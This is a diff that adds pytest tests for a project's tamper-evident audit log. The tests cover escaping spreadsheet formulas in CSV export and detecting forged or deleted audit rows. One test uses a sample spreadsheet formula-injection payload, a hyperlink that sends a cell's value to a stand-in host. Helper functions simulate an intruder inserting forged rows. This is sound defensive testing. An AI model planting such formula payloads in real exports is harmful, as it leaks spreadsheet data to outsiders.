@@ -14,11 +14,13 @@ from pathlib import Path
 
 import httpx
 import pytest
-from sqlalchemy import delete, func, select, update
+from sqlalchemy import delete, func, insert, select, update
 
 from legator.core.audit.models import AuditEvent
-from legator.core.audit.service import RETENTION_ACTOR
-from legator.core.db import Database, retention
+from legator.core.audit.service import PURGE_ACTION, RETENTION_ACTOR, AuditFilter, AuditService
+from legator.core.config import Settings
+from legator.core.db import Database, new_id, retention, utcnow
+from legator.core.db.migrate import upgrade
 from tests.support import LiveServer, eventually, first_started, live_server
 
 CHAIN_KEY = "test-chain-key-0123456789"
@@ -116,6 +118,19 @@ def test_chain_verifies_and_detects_tampering(tmp_path: Path) -> None:
         broken = api.get("/api/v1/audit/verify").json()
         assert broken["ok"] is False and broken["first_break"]
         assert "broken" in broken["message"]
+
+
+def test_csv_export_neutralises_formulas(api: httpx.Client, server: LiveServer) -> None:
+    assert server.core is not None
+    formula = '=hyperlink("http://e.example/?"&b3,"open")'
+    for actor in (formula, "+1", "-1", "@sum(a1)", "\tx", "\rx"):
+        server.call(server.core.audit.log(actor=actor, action="test.formula", target=actor))
+    response = api.get("/api/v1/audit/export", params={"format": "csv", "action": "test.formula"})
+    rows = list(csv.DictReader(io.StringIO(response.text)))
+    assert [r["actor"] for r in rows] == ["'" + formula, "'+1", "'-1", "'@sum(a1)", "'\tx", "'\rx"]
+    assert all(r["target"] == r["actor"] for r in rows)
+    ndjson = api.get("/api/v1/audit/export", params={"action": "test.formula"}).text
+    assert json.loads(ndjson.splitlines()[0])["actor"] == formula  # JSON stays as it was
 
 
 def test_verify_without_key_says_so(api: httpx.Client) -> None:
@@ -241,3 +256,149 @@ def test_a_server_purges_audit_events_past_their_retention(tmp_path: Path) -> No
     asyncio.run(_age_every_event(url, days=40))
     with live_server(data, audit_retention_days=30):
         eventually(lambda: asyncio.run(_actions(url)), ["audit.purge"])
+
+
+async def _chained_log(url: str, *, unchained: int = 0, chained: int = 3) -> AuditService:
+    """A migrated database with ``unchained`` events written before the chain key was set
+    and ``chained`` after it."""
+    db = Database(Settings(database_url=url).effective_database_url)
+    await upgrade(db)
+    for i in range(unchained):
+        await AuditService(db).log(actor="admin", action="test.before_key", target=str(i))
+    audit = AuditService(db, CHAIN_KEY.encode())
+    for i in range(chained):
+        await audit.log(actor="admin", action="test.event", target=str(i))
+    return audit
+
+
+async def _rows(audit: AuditService) -> list[tuple[int, str, str | None]]:
+    async with audit.db.session() as session:
+        query = select(AuditEvent.seq, AuditEvent.id, AuditEvent.hash).order_by(AuditEvent.seq)
+        return [(seq, id_, hash_) for seq, id_, hash_ in (await session.execute(query)).all()]
+
+
+async def _forge(audit: AuditService, seq: int, action: str, details: dict[str, object]) -> str:
+    """Insert an unhashed row at ``seq``, as an intruder with write access to the database."""
+    event_id = new_id()
+    async with audit.db.write() as session:
+        await session.execute(
+            insert(AuditEvent).values(
+                seq=seq,
+                id=event_id,
+                ts=utcnow(),
+                actor=RETENTION_ACTOR,
+                action=action,
+                target="audit",
+                outcome="success",
+                details=details,
+                request_id="",
+            )
+        )
+    return event_id
+
+
+def test_a_forged_purge_record_does_not_cover_deleted_events(db_url: str) -> None:
+    async def scenario() -> None:
+        audit = await _chained_log(db_url, chained=4)
+        try:
+            assert (await audit.verify()).ok
+            rows = await _rows(audit)
+            async with audit.db.write() as session:
+                await session.execute(delete(AuditEvent).where(AuditEvent.seq <= rows[1][0]))
+            report = await audit.verify()
+            assert not report.ok and "no purge" in report.message
+            # An unhashed purge record naming the new oldest event, in a freed slot.
+            details = {"older_than": utcnow().isoformat(), "deleted": 2, "anchor": rows[2][1]}
+            await _forge(audit, rows[0][0], PURGE_ACTION, details)
+            report = await audit.verify()
+            assert not report.ok and report.first_break == rows[2][1], report
+            assert "no purge" in report.message
+            # Nor does one appended after the chain.
+            await _forge(audit, rows[-1][0] + 10, PURGE_ACTION, details)
+            assert not (await audit.verify()).ok
+        finally:
+            await audit.db.dispose()
+
+    asyncio.run(scenario())
+
+
+def test_rows_at_positions_never_handed_out_are_verified_and_exported(db_url: str) -> None:
+    async def scenario() -> None:
+        audit = await _chained_log(db_url)
+        try:
+            fake = await _forge(audit, -5, "secret.read", {})
+            report = await audit.verify()
+            assert not report.ok and report.first_break == fake, report
+            exported = [e.id async for e in audit.iterate(AuditFilter())]
+            assert exported[0] == fake and len(exported) == 4
+            ndjson = "".join([line async for line in audit.export_ndjson(AuditFilter())])
+            assert fake in ndjson
+        finally:
+            await audit.db.dispose()
+
+    asyncio.run(scenario())
+
+
+def test_real_purges_verify_and_rows_slipped_in_before_them_do_not(
+    db_url: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(retention, "PRUNE_PAUSE_S", 0)
+
+    async def scenario() -> None:
+        # The key was set on an existing log: two unchained events, then the chain.
+        audit = await _chained_log(db_url, unchained=2, chained=3)
+        try:
+            report = await audit.verify()
+            assert (report.ok, report.unchained, report.checked) == (True, 2, 3), report
+            rows = await _rows(audit)
+            # An unhashed row before the chain's start counts as one written before the key.
+            assert rows[1][2] is None and rows[2][2] is not None
+            await asyncio.sleep(0.02)
+            cutoff = utcnow()
+            await asyncio.sleep(0.02)
+            await audit.log(actor="admin", action="test.event", target="new")
+            # One unchained event goes, then two: each batch recorded, verifiable after each.
+            assert await audit.purge_in_batches(cutoff, actor="t", batch=1) == 5
+            report = await audit.verify()
+            assert (report.ok, report.unchained, report.checked) == (True, 0, 6), report
+            # A row slipped in where the purged ones were is caught.
+            fake = await _forge(audit, rows[0][0], "secret.read", {})
+            report = await audit.verify()
+            assert not report.ok and report.first_break == fake, report
+            async with audit.db.write() as session:
+                await session.execute(delete(AuditEvent).where(AuditEvent.id == fake))
+            assert (await audit.verify()).ok
+            # A purge of everything leaves its own record as the anchor.
+            result = await audit.purge(utcnow(), actor="admin")
+            report = await audit.verify()
+            assert (report.ok, report.checked, report.anchor) == (True, 1, result.anchor), report
+        finally:
+            await audit.db.dispose()
+
+    asyncio.run(scenario())
+
+
+def test_a_purge_of_unchained_events_only_keeps_the_chain_verifiable(
+    db_url: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(retention, "PRUNE_PAUSE_S", 0)
+
+    async def scenario() -> None:
+        audit = await _chained_log(db_url, unchained=2, chained=0)
+        try:
+            await asyncio.sleep(0.02)
+            cutoff = utcnow()
+            await asyncio.sleep(0.02)
+            await AuditService(audit.db).log(actor="admin", action="test.before_key")
+            await audit.log(actor="admin", action="test.event")
+            assert await audit.purge_in_batches(cutoff, actor="t") == 2
+            report = await audit.verify()
+            assert (report.ok, report.unchained, report.checked) == (True, 1, 2), report
+            rows = await _rows(audit)
+            fake = await _forge(audit, rows[0][0] - 1, "secret.read", {})
+            report = await audit.verify()
+            assert not report.ok and report.first_break == fake, report
+        finally:
+            await audit.db.dispose()
+
+    asyncio.run(scenario())
